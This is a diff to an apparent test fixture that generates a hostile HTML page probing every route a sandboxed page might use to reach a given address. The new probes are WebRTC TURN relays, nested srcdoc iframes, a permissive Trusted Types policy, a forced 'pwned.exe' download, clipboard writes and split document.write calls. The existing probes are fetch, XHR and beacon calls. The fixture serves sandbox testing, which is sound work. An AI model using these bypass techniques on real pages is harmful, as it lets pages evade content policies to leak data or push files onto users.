@@ -1,5 +1,14 @@
+/** Calls a relay by WebRTC, which no content policy knows of. */
+const peer = (url: string): string =>
+  `const peer = new RTCPeerConnection({ iceServers: [{ urls: '${url.replace('http://', 'turn:').replace(/\/$/, '')}?transport=tcp', username: 'a', credential: 'b' }] }); peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer)).catch(() => {})`
+
+const escaped = (text: string): string =>
+  text.replaceAll('&', '&amp;').replaceAll('"', '&quot;').replaceAll('<', '&lt;')
+
 /** A page that tries every way out that a page has, each to an address of its own under `url`. */
-export const hostilePage = (url: string): string => `<!doctype html>
+export const hostilePage = (url: string): string => {
+  const framed = `<script>${peer(url)}</script>`
+  return `<!doctype html>
 <html><head>
 <meta http-equiv="refresh" content="1;url=${url}refresh">
 <link rel="stylesheet" href="${url}link.css"><link rel="prefetch" href="${url}prefetch"><link rel="preload" as="image" href="${url}preload">
@@ -15,11 +24,30 @@ export const hostilePage = (url: string): string => `<!doctype html>
 <svg width="9" height="9"><image href="${url}svg-image"/><use href="${url}use#a"/></svg>
 <iframe src="${url}frame"></iframe><iframe srcdoc="<img src='${url}nested'>"></iframe>
 <object data="${url}object"></object><embed src="${url}embed">
+<iframe srcdoc="${escaped(framed)}"></iframe>
+<div><template shadowrootmode="closed"><iframe srcdoc="${escaped(framed)}"></iframe></template></div>
 <form id="f" action="${url}form" method="post"><input name="a" value="b"></form>
 <a id="a" href="${url}anchor" ping="${url}ping">link</a><a id="b" href="${url}blank" target="_blank">blank</a>
 <img src="x" onerror="top.pwned = 1">
 <script>
+const framed = ${JSON.stringify(framed).replaceAll('</', '<\\/')}
+const add = (frame) => document.body.append(frame)
+const frame = () => document.createElement('iframe')
+const srcdoc = () => Object.assign(document.createAttribute('srcdoc'), { value: framed })
 const tries = {
+  peer: () => { ${peer(url)} },
+  framed: () => { const one = frame(); one.srcdoc = framed; add(one) },
+  attribute: () => { const one = frame(); one.setAttribute('srcdoc', framed); add(one) },
+  node: () => { const one = frame(); one.setAttributeNode(srcdoc()); add(one) },
+  later: () => { const one = frame(); one.setAttributeNode(document.createAttribute('srcdoc')); one.attributes.srcdoc.value = framed; add(one) },
+  html: () => { document.body.insertAdjacentHTML('beforeend', '<iframe srcdoc="' + framed.replaceAll('"', '&quot;') + '"></iframe>') },
+  range: () => { add(document.createRange().createContextualFragment('<iframe srcdoc="' + framed.replaceAll('"', '&quot;') + '"></iframe>')) },
+  xml: () => { add(document.importNode(new DOMParser().parseFromString('<h:iframe xmlns:h="http://www.w3.org/1999/xhtml" srcdoc="' + framed.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;') + '"/>', 'text/xml').documentElement, true)) },
+  policy: () => { trustedTypes.createPolicy('default', { createHTML: (text) => text }) },
+  download: () => { const one = document.createElement('a'); one.download = 'pwned.exe'; one.href = URL.createObjectURL(new Blob(['x'])); one.click() },
+  clipboard: () => navigator.clipboard.writeText('pwned'),
+  copy: () => document.execCommand('copy'),
+  fullscreen: () => document.documentElement.requestFullscreen(),
   fetch: () => fetch('${url}fetch', { mode: 'no-cors' }),
   xhr: () => { const x = new XMLHttpRequest(); x.open('GET', '${url}xhr'); x.send() },
   beacon: () => navigator.sendBeacon('${url}beacon', 'x'),
@@ -44,5 +72,7 @@ const tries = {
 }
 for (const attempt of Object.values(tries)) try { Promise.resolve(attempt()).catch(() => {}) } catch {}
 document.body.dataset.tried = 'all'
+try { document.write('<ifr'); document.write('ame srcdoc="' + framed.replaceAll('"', '&quot;') + '"></iframe>') } catch {}
 </script>
 </body></html>`
+}
